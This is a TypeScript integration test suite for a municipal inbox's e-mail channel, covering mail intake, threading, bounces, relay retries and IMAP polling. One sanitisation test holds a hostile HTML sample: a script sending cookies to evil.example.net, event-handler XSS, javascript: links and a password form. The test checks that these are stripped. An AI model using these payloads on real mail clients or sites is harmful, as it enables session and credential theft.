import type { ConversationDetailDto, ConversationPageDto, ConversationSummaryDto, MessageDto } from '@ingang/shared';
import { SmtpSink } from '../providers/smtp-sink';
import { startDovecot, type DovecotHandle } from '../support/dovecot';
import {
  composeMail,
  newMessageId,
  sendCitizenMail,
  sendDeliveryReport,
  sendRawMail,
  TEST_INBOX,
  type CitizenMail,
} from '../support/email-messages';
import { freePort, startServer, type ServerHandle } from '../support/server-process';
import { connectSocket, recordEvents, type EventRecorder, type IngangSocket } from '../support/socket-client';

type EmailContent = Extract<MessageDto['content'], { kind: 'email' }>;

// A 1×1 PNG, as mail clients embed pasted screenshots.
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);
const MAIL_MAX_BYTES = 512 * 1024;
const MEDIA_MAX_BYTES = 64 * 1024;

/** The text of a mail, '' for anything else (our own replies are text messages). */
function textOf(message: MessageDto): string {
  return message.content.kind === 'email' ? message.content.text : '';
}

function contentOf(message: MessageDto): EmailContent {
  if (message.content.kind !== 'email') throw new Error(`message ${message.id} is ${message.content.kind}, not mail`);
  return message.content;
}

describe('E-mail (real server, Redis, SQLite; SMTP in and out, IMAP from Dovecot)', () => {
  let sink: SmtpSink;
  let dovecot: DovecotHandle;
  let server: ServerHandle;
  let smtpPort: number;
  let token: string;
  let socket: IngangSocket;
  let events: EventRecorder;
  let citizens = 0;

  /** A fresh citizen address, so no test continues another test's conversation. */
  function citizen(name = 'inwoner'): string {
    citizens += 1;
    return `${name}.${citizens}@example.nl`;
  }

  const send = (mail: CitizenMail) => sendCitizenMail(smtpPort, mail);
  const created = (from: string, timeoutMs = 10_000) =>
    events.waitFor('conversation.created', (c) => c.channel === 'email' && c.contact.handle === from, timeoutMs);
  const messageIn = (conversationId: string, predicate: (m: MessageDto) => boolean = () => true) =>
    events.waitFor('message.created', (m) => m.conversationId === conversationId && predicate(m), 10_000);
  const detail = async (conversationId: string) =>
    (await server.api<ConversationDetailDto>(`/api/conversations/${conversationId}`, { token })).body;
  const reply = (conversationId: string, text: string) =>
    server.api<MessageDto>(`/api/conversations/${conversationId}/reply`, { method: 'POST', body: { text }, token });
  const delivery = (messageId: string, status: string) =>
    events.waitFor('message.updated', (m) => m.id === messageId && m.delivery?.status === status, 15_000);

  /** A citizen's question, stored and shown: resolves with its conversation and message. */
  async function citizenAsks(mail: Omit<CitizenMail, 'from'> & { from?: string }) {
    const from = mail.from ?? citizen();
    const conversation = created(from);
    const delivered = await send({ subject: 'Vraag', ...(mail.html ? {} : { text: 'Een vraag.' }), ...mail, from });
    const summary = await conversation;
    const message = await messageIn(summary.id);
    return { from, delivered, conversation: summary, message };
  }

  /** The agent answers; resolves once the relay accepted the mail, with what it received. */
  async function agentAnswers(conversationId: string, text: string) {
    const answer = await reply(conversationId, text);
    expect(answer.status).toBe(202);
    const mail = await sink.waitForMail((m) => m.parsed.text?.includes(text) ?? false, 10_000);
    await delivery(answer.body.id, 'sent');
    return { answer: answer.body, mail, messageId: mail.parsed.messageId ?? '' };
  }

  beforeAll(async () => {
    sink = await SmtpSink.start({ user: 'relay-user', password: 'relay-secret' });
    dovecot = await startDovecot();
    smtpPort = await freePort();
    server = await startServer({
      MAIL_INBOX_ADDRESS: TEST_INBOX,
      MAIL_FROM_NAME: 'Gemeente Ingang',
      SMTP_HOST: '127.0.0.1',
      SMTP_PORT: String(smtpPort),
      SMTP_RELAY_URL: sink.url,
      MAIL_MAX_BYTES: String(MAIL_MAX_BYTES),
      MEDIA_MAX_BYTES: String(MEDIA_MAX_BYTES),
      IMAP_URL: dovecot.imapUrl,
      IMAP_POLL_MS: '250',
    });
    token = await server.login();
    socket = await connectSocket(server.baseUrl, token);
    events = recordEvents(socket);
  }, 30_000);

  afterAll(async () => {
    socket?.disconnect();
    await server?.stop();
    await dovecot?.stop();
    await sink?.close();
  });

  describe('receiving', () => {
    it('takes a plain mail in as a waiting question, with its subject, sender and text', async () => {
      const from = citizen('sanne');
      const sentAt = new Date(Date.now() - 60_000);
      const conversation = created(from);
      const delivered = await send({
        from: { name: 'Sanne de Vries', address: from },
        subject: 'Container niet geleegd',
        text: 'Mijn groene container is vanochtend niet geleegd.',
        date: sentAt,
      });
      expect(delivered.response).toMatch(/^250 /);
      const summary = await conversation;
      expect(summary).toMatchObject({
        channel: 'email',
        channelAccountId: TEST_INBOX,
        status: 'open',
        subject: 'Container niet geleegd',
        contact: { displayName: 'Sanne de Vries', handle: from },
        unansweredCount: 1,
        waitingSince: new Date(Math.floor(sentAt.getTime() / 1000) * 1000).toISOString(),
      });
      const message = await messageIn(summary.id);
      expect(message).toMatchObject({ direction: 'inbound', automated: null, delivery: null });
      expect(contentOf(message)).toEqual({
        kind: 'email',
        subject: 'Container niet geleegd',
        text: 'Mijn groene container is vanochtend niet geleegd.',
        html: null,
        hasRemoteImages: false,
      });
    });

    it('acknowledges with 250 only what is durably stored: the mail survives a kill -9 right after', async () => {
      const from = citizen('crash');
      const delivered = await send({ from, subject: 'Net voor de crash', text: 'Komt dit aan?' });
      expect(delivered.response).toMatch(/^250 /);
      await server.kill9();
      await server.restart();
      socket.disconnect();
      socket = await connectSocket(server.baseUrl, token);
      events = recordEvents(socket);
      // Stored events are applied again at start, before the server answers its health check.
      const list = await server.api<ConversationPageDto>('/api/conversations?channel=email&limit=200', { token });
      const conversation = list.body.items.find((c) => c.contact.handle === from);
      expect(conversation).toMatchObject({ subject: 'Net voor de crash', unansweredCount: 1 });
      const messages = (await detail(conversation!.id)).messages;
      expect(messages.map((m) => textOf(m))).toEqual(['Komt dit aan?']);
    }, 30_000);

    it('refuses mail for any other address at RCPT TO with 550', async () => {
      const attempt = send({ from: citizen(), to: 'iemand-anders@gemeente.test', subject: 'Verkeerd', text: 'x' });
      await expect(attempt).rejects.toMatchObject({ responseCode: 550 });
    });

    it('refuses a mail over MAIL_MAX_BYTES with 552', async () => {
      const attempt = send({
        from: citizen(),
        subject: 'Te groot',
        text: 'Zie bijlage',
        attachments: [{ filename: 'groot.bin', content: Buffer.alloc(MAIL_MAX_BYTES + 1024, 7) }],
      });
      await expect(attempt).rejects.toMatchObject({ responseCode: 552 });
    });

    it('answers /webhooks/email as an unsigned webhook: mail does not arrive that way', async () => {
      const response = await fetch(`${server.baseUrl}/webhooks/email`, { method: 'POST', body: '{}' });
      expect(response.status).toBe(401);
    });

    it('sanitises hostile HTML, keeps remote images only as flagged references', async () => {
      const { message } = await citizenAsks({
        subject: 'Foto van de melding',
        html:
          '<html><head><style>body{background:url(https://t.example.net/bg.png)}</style></head>' +
          '<body onload="steal()"><p style="color:#333;background-image:url(https://t.example.net/s.png)">Er ligt <b>afval</b>.</p>' +
          '<script>document.location="https://evil.example.net/?c="+document.cookie</script>' +
          '<img src="x" onerror="alert(1)"><img src="https://images.example.net/afval.jpg" alt="afval">' +
          '<img src="https://t.example.net/open.gif?id=42" width="1" height="1">' +
          '<a href="javascript:alert(2)">klik</a><a href="https://www.example.net/melding">melding</a>' +
          '<iframe src="https://evil.example.net/frame"></iframe>' +
          '<form action="https://evil.example.net"><input name="wachtwoord"></form></body></html>',
      });
      const content = contentOf(message);
      expect(content.hasRemoteImages).toBe(true);
      expect(content.html).not.toMatch(/script|onerror|onload|alert|javascript:|<iframe|<form|<input|url\(|evil/i);
      expect(content.html).toContain('<p style="color:#333">Er ligt <b>afval</b>.</p>');
      expect(content.html).toContain('src="https://images.example.net/afval.jpg"');
      expect(content.html).toContain('src="https://t.example.net/open.gif?id=42"');
      expect(content.html).toContain('href="https://www.example.net/melding"');
      expect(content.text).toContain('Er ligt afval.');
    });

    it('stores attachments before the 250 and serves them for download; one over the limit is not kept', async () => {
      const pdf = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(20_000, 65)]);
      const { message } = await citizenAsks({
        subject: 'Stukken voor mijn aanvraag',
        text: 'Zie de bijlagen.',
        html: '<p>Zie de foto:</p><img src="cid:foto@example.nl" alt="foto">',
        attachments: [
          { filename: 'foto.png', content: PIXEL, contentType: 'image/png', cid: 'foto@example.nl' },
          { filename: 'aanvraag.pdf', content: pdf, contentType: 'application/pdf' },
          { filename: 'video.mp4', content: Buffer.alloc(MEDIA_MAX_BYTES + 1, 1), contentType: 'video/mp4' },
        ],
      });
      // Nothing is fetched later: every file is there, or known not to be, when the message appears.
      const byName = new Map(message.attachments.map((a) => [a.fileName, a]));
      expect(byName.get('foto.png')).toMatchObject({ mediaType: 'image', status: 'stored', size: PIXEL.length });
      expect(byName.get('aanvraag.pdf')).toMatchObject({ mediaType: 'document', status: 'stored', size: pdf.length });
      expect(byName.get('video.mp4')).toMatchObject({ mediaType: 'video', status: 'failed' });

      const download = await fetch(`${server.baseUrl}${byName.get('aanvraag.pdf')!.url}`, {
        headers: { authorization: `Bearer ${token}` },
      });
      expect(download.status).toBe(200);
      expect(download.headers.get('content-disposition')).toMatch(/^attachment/);
      expect(Buffer.from(await download.arrayBuffer()).equals(pdf)).toBe(true);
      // The inline image in the HTML points at its stored copy.
      expect(contentOf(message).html).toContain(`src="${byName.get('foto.png')!.url}"`);
      const image = await fetch(`${server.baseUrl}${byName.get('foto.png')!.url}`, {
        headers: { authorization: `Bearer ${token}` },
      });
      expect(Buffer.from(await image.arrayBuffer()).equals(PIXEL)).toBe(true);
    });

    it('keeps a non-ASCII subject and a quoted-printable body intact', async () => {
      const text = 'Ik woon sinds 1 juli in Zoë (België); de aanslag van € 312,50 klopt niet — naïef? 🙂';
      const { message, conversation, delivered } = await citizenAsks({
        from: citizen('jose'),
        subject: 'Afvalstoffenheffing: één vraag over € 312,50',
        text,
        textEncoding: 'quoted-printable',
      });
      expect(delivered.raw.toString('latin1')).toMatch(/Content-Transfer-Encoding: quoted-printable/i);
      expect(delivered.raw.toString('latin1')).toContain('Zo=C3=AB');
      expect(conversation.subject).toBe('Afvalstoffenheffing: één vraag over € 312,50');
      expect(contentOf(message).text).toBe(text);
    });

    it('stores mail without a Message-ID once, however often it is delivered', async () => {
      const from = citizen('zonder-id');
      const mail = await composeMail({
        from,
        subject: 'Lantaarnpaal kapot',
        text: 'De lantaarnpaal voor Kerkweg 3 brandt niet.',
        messageId: null,
      });
      expect(mail.raw.toString()).not.toMatch(/^Message-ID:/im);
      const conversation = created(from);
      await sendRawMail(smtpPort, mail.raw, { from, to: [TEST_INBOX] });
      const summary = await conversation;
      await messageIn(summary.id);
      await sendRawMail(smtpPort, mail.raw, { from, to: [TEST_INBOX] });
      // A later mail in the same conversation: by the time it is shown, a second copy would have been too.
      await send({ from, subject: 'Re: Lantaarnpaal kapot', text: 'Nog steeds kapot.' });
      await messageIn(summary.id, (m) => textOf(m) === 'Nog steeds kapot.');
      const texts = (await detail(summary.id)).messages.map((m) => textOf(m));
      expect(texts).toEqual(['De lantaarnpaal voor Kerkweg 3 brandt niet.', 'Nog steeds kapot.']);
    });

    it('stores a mail delivered twice with the same Message-ID once', async () => {
      const from = citizen('dubbel');
      const messageId = newMessageId();
      const { conversation } = await citizenAsks({ from, subject: 'Dubbel', text: 'Eerste', messageId });
      const again = await send({ from, subject: 'Dubbel', text: 'Eerste', messageId });
      expect(again.response).toMatch(/^250 /);
      await send({ from, subject: 'Dubbel', text: 'Tweede' });
      await messageIn(conversation.id, (m) => textOf(m) === 'Tweede');
      const texts = (await detail(conversation.id)).messages.map((m) => textOf(m));
      expect(texts).toEqual(['Eerste', 'Tweede']);
      expect((await detail(conversation.id)).conversation.unansweredCount).toBe(2);
    });
  });

  describe('threading', () => {
    it("puts a citizen's reply to our answer in the same conversation through In-Reply-To", async () => {
      const { from, conversation, delivered } = await citizenAsks({
        subject: 'Parkeervergunning',
        text: 'Hoe vraag ik een parkeervergunning aan?',
      });
      const { messageId } = await agentAnswers(conversation.id, 'Via Mijn Gemeente.');
      // The citizen's client changes the subject; the headers still say where it belongs.
      await send({
        from,
        subject: 'Bedankt, nog één ding',
        text: 'Kan het ook voor een bedrijfsauto?',
        inReplyTo: messageId,
        references: [delivered.messageId!, messageId],
      });
      const followUp = await messageIn(conversation.id, (m) => textOf(m).startsWith('Kan het ook'));
      expect(followUp.replyToMessageId).not.toBeNull();
      await events.waitFor(
        'conversation.updated',
        (c) => c.id === conversation.id && c.unansweredCount === 1 && c.waitingSince !== null,
      );
    });

    it('continues a conversation by the same subject from the same address, and only from that address', async () => {
      const { from, conversation } = await citizenAsks({ subject: 'Snoeiafval ophalen', text: 'Wanneer?' });
      await send({ from, subject: 'RE: snoeiafval  ophalen', text: 'Ik hoor graag.' });
      await messageIn(conversation.id, (m) => textOf(m) === 'Ik hoor graag.');
      const neighbour = citizen('buurman');
      const other = created(neighbour);
      await send({ from: neighbour, subject: 'Snoeiafval ophalen', text: 'Ik ook!' });
      expect((await other).id).not.toBe(conversation.id);
      const different = events.waitFor(
        'conversation.created',
        (c) => c.contact.handle === from && c.subject === 'Iets anders',
        10_000,
      );
      await send({ from, subject: 'Iets anders', text: 'Nieuwe vraag' });
      expect((await different).id).not.toBe(conversation.id);
    });
  });

  describe('auto-replies and bounces', () => {
    let answered: { from: string; conversation: ConversationSummaryDto; messageId: string };

    beforeAll(async () => {
      const { from, conversation } = await citizenAsks({ subject: 'Bouwvergunning schuur', text: 'Nodig?' });
      const { messageId } = await agentAnswers(conversation.id, 'Niet onder de 10 m2.');
      answered = { from, conversation, messageId };
    }, 30_000);

    it.each<[string, Partial<CitizenMail>]>([
      ['Auto-Submitted (RFC 3834)', { headers: { 'Auto-Submitted': 'auto-replied' } }],
      ['the null sender (MAIL FROM:<>)', { envelopeFrom: '' }],
      [
        "Exchange's Automatisch antwoord with X-Auto-Response-Suppress",
        { subject: 'Automatisch antwoord: Re: Bouwvergunning schuur', headers: { 'X-Auto-Response-Suppress': 'All' } },
      ],
      [
        "Exchange's Automatic reply with X-Auto-Response-Suppress",
        { subject: 'Automatic reply: Re: Bouwvergunning schuur', headers: { 'X-Auto-Response-Suppress': 'All' } },
      ],
      ["Apple's X-Apple-Action: VACATION", { headers: { 'X-Apple-Action': 'VACATION' } }],
      ['Precedence: bulk', { headers: { Precedence: 'bulk' } }],
      ['Precedence: auto_reply', { headers: { Precedence: 'auto_reply' } }],
      ['Precedence: junk', { headers: { Precedence: 'junk' } }],
      ['Precedence: list', { headers: { Precedence: 'list' } }],
      ['List-Id', { headers: { 'List-Id': 'Bewoners <bewoners.lists.example.nl>' } }],
    ])('attaches an auto-reply recognised by %s, flagged, and does not count it as a question', async (kind, mail) => {
      const text = `Ik ben afwezig (${kind}).`;
      await send({
        from: answered.from,
        subject: 'Re: Bouwvergunning schuur',
        text,
        inReplyTo: answered.messageId,
        references: [answered.messageId],
        ...mail,
      });
      const message = await messageIn(answered.conversation.id, (m) => textOf(m) === text);
      expect(message).toMatchObject({ direction: 'inbound', automated: 'auto-reply' });
      const now = (await detail(answered.conversation.id)).conversation;
      expect(now).toMatchObject({ waitingSince: null, unansweredCount: 0 });
    });

    it('files machine mail that refers to nothing as a resolved conversation nobody has to answer', async () => {
      const from = citizen('nieuwsbrief');
      const conversation = created(from);
      await send({ from, subject: 'Aanbiedingen', text: '20% korting', headers: { Precedence: 'bulk' } });
      expect(await conversation).toMatchObject({ status: 'resolved', unansweredCount: 0, waitingSince: null });
    });

    it('marks our reply failed when it bounces, and shows the bounce in the conversation', async () => {
      const { from, conversation } = await citizenAsks({ subject: 'Paspoort', text: 'Hoe lang duurt het?' });
      const { answer, messageId } = await agentAnswers(conversation.id, 'Ongeveer vijf werkdagen.');
      expect(answer.delivery?.status).toBe('pending');
      const response = await sendDeliveryReport(smtpPort, { bouncedMessageId: messageId, recipient: from });
      expect(response).toMatch(/^250 /);
      const failed = await delivery(answer.id, 'failed');
      expect(failed.delivery).toMatchObject({
        failureCode: 'BOUNCED',
        failureDetail: expect.stringContaining('Status: 5.1.1'),
      });
      const bounce = await messageIn(conversation.id, (m) => m.automated === 'bounce');
      expect(contentOf(bounce).subject).toBe('Undelivered Mail Returned to Sender');
      // The citizen never got the answer: the question is waiting again.
      await events.waitFor(
        'conversation.updated',
        (c) => c.id === conversation.id && c.unansweredCount === 1 && c.waitingSince === conversation.waitingSince,
      );
    });

    it('does not fail a reply on a delay warning', async () => {
      const { from, conversation } = await citizenAsks({ subject: 'Rijbewijs', text: 'Verlengen?' });
      const { answer, messageId } = await agentAnswers(conversation.id, 'Ja, online.');
      await sendDeliveryReport(smtpPort, {
        bouncedMessageId: messageId,
        recipient: from,
        status: '4.4.1',
        diagnostic: 'X-Postfix; connect to mx.example.nl: Connection timed out',
      });
      await messageIn(conversation.id, (m) => m.automated === 'bounce');
      const ours = (await detail(conversation.id)).messages.find((m) => m.id === answer.id);
      expect(ours?.delivery?.status).toBe('sent');
    });
  });

  describe('replying', () => {
    it("sends the agent's answer through the relay, threaded under the question, with the question quoted", async () => {
      const from = citizen('lisa');
      const { conversation, delivered } = await citizenAsks({
        from,
        subject: 'Afspraak ID-kaart',
        text: 'Kan ik volgende week\neen afspraak maken?',
      });
      const { mail } = await agentAnswers(conversation.id, 'Ja, neem een pasfoto mee.');
      expect(mail.user).toBe('relay-user');
      expect(mail.envelope).toEqual({ from: TEST_INBOX, to: [from] });
      expect(mail.parsed.from?.value).toEqual([{ name: 'Gemeente Ingang', address: TEST_INBOX }]);
      expect(mail.parsed.subject).toBe('Re: Afspraak ID-kaart');
      expect(mail.parsed.inReplyTo).toBe(delivered.messageId);
      expect([mail.parsed.references].flat()).toContain(delivered.messageId);
    });

    it('escapes what the agent typed, keeps its line breaks, and uses its own Message-ID as the provider id', async () => {
      const from = citizen('kees');
      const { conversation } = await citizenAsks({ from, subject: 'Afspraak', text: 'Kan ik\neen afspraak maken?' });
      const text = 'Beste Kees,\n\nJa. Neem <b>een pasfoto</b> & uw oude kaart mee.';
      const answer = await reply(conversation.id, text);
      const mail = await sink.waitForMail((m) => m.envelope.to.includes(from), 10_000);
      await delivery(answer.body.id, 'sent');
      expect(mail.parsed.messageId).toBe(`<${answer.body.id}.ingang@gemeente.test>`);
      expect(mail.parsed.html).toContain(
        'Beste Kees,<br>\n<br>\nJa. Neem &lt;b&gt;een pasfoto&lt;/b&gt; &amp; uw oude kaart mee.',
      );
      expect(mail.parsed.html).toMatch(/<blockquote type="cite"[^>]*>Kan ik<br>\neen afspraak maken\?<\/blockquote>/);
      expect(mail.parsed.text).toMatch(
        /^Beste Kees,\n\nJa\. Neem <b>een pasfoto<\/b> & uw oude kaart mee\.\n\nOp .+ schreef .+:\n> Kan ik\n> een afspraak maken\?/,
      );
    });

    it('retries after 451 from the relay and then delivers the mail once', async () => {
      const from = citizen('retry');
      const { conversation } = await citizenAsks({ from, subject: 'Gft-bak', text: 'Nieuwe bak?' });
      sink.failNext(2, { code: 451, message: '4.3.0 Try again later' });
      const answer = await reply(conversation.id, 'U krijgt een nieuwe gft-bak.');
      await delivery(answer.body.id, 'sent');
      const attempts = sink.attempts.filter((a) => a.to.includes(from)).map((a) => a.answer);
      expect(attempts).toEqual([451, 451, 250]);
      const mails = sink.mails.filter((m) => m.envelope.to.includes(from));
      expect(mails).toHaveLength(1);
      expect(mails[0].parsed.messageId).toBe(`<${answer.body.id}.ingang@gemeente.test>`);
    });

    it("fails the reply at once on a 550 and shows the relay's reason", async () => {
      const from = citizen('weg');
      const { conversation } = await citizenAsks({ from, subject: 'Verhuizing', text: 'Adres wijzigen?' });
      sink.failNext(1, { code: 550, message: '5.1.1 <weg@example.nl>: Recipient address rejected', stage: 'rcpt' });
      const answer = await reply(conversation.id, 'Dat doet u via Mijn Gemeente.');
      const failed = await delivery(answer.body.id, 'failed');
      expect(failed.delivery).toMatchObject({
        failureCode: 'REJECTED',
        failureDetail: expect.stringContaining('550 5.1.1'),
      });
      expect(sink.attempts.filter((a) => a.to.includes(from)).map((a) => a.answer)).toEqual([550]);
      expect(sink.mails.filter((m) => m.envelope.to.includes(from))).toHaveLength(0);
      await events.waitFor('conversation.updated', (c) => c.id === conversation.id && c.unansweredCount === 1);
    });
  });

  describe('IMAP polling', () => {
    it('takes in unread mail from the mailbox and marks it \\Seen once stored', async () => {
      const from = citizen('imap');
      const { raw } = await composeMail({
        from: { name: 'Iris Mulder', address: from },
        subject: 'Vraag via de oude mailbox',
        text: 'Komt deze vraag ook aan?',
      });
      const conversation = created(from);
      const uid = await dovecot.append(raw);
      const summary = await conversation;
      expect(summary).toMatchObject({ subject: 'Vraag via de oude mailbox', unansweredCount: 1 });
      const message = await messageIn(summary.id);
      expect(contentOf(message).text).toBe('Komt deze vraag ook aan?');
      await dovecot.waitForFlag(uid, '\\Seen', 10_000);
    });

    it('leaves mail that a person already read in the mailbox alone', async () => {
      const from = citizen('gelezen');
      const { raw } = await composeMail({ from, subject: 'Al gelezen', text: 'Iemand las dit al.' });
      // Marked read by a person: IMAP polling only takes unread mail.
      const uid = await dovecot.append(raw, ['\\Seen']);
      const marker = citizen('daarna');
      const conversation = created(marker);
      const { raw: next } = await composeMail({ from: marker, subject: 'Daarna', text: 'Nieuwe vraag.' });
      await dovecot.append(next);
      await conversation;
      const list = await server.api<ConversationPageDto>('/api/conversations?channel=email&limit=200', { token });
      expect(list.body.items.find((c) => c.contact.handle === from)).toBeUndefined();
      expect((await dovecot.flagsOf(uid)).has('\\Seen')).toBe(true);
    });
  });
});
